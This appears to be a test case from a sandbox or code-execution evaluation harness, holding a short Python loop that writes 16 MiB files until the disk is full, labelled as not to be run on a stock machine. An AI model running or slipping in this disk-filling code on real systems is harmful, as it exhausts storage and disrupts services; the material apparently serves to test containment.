# Writes files until the disk is full.
# succeeds: disturbs
# stock: not run: it would fill this machine's disk

# %% median
_block = b"x" * (1 << 20)
for _k in range(100_000):
    with open(f"block-{_k}", "wb") as _file:
        for _ in range(16):
            _file.write(_block)
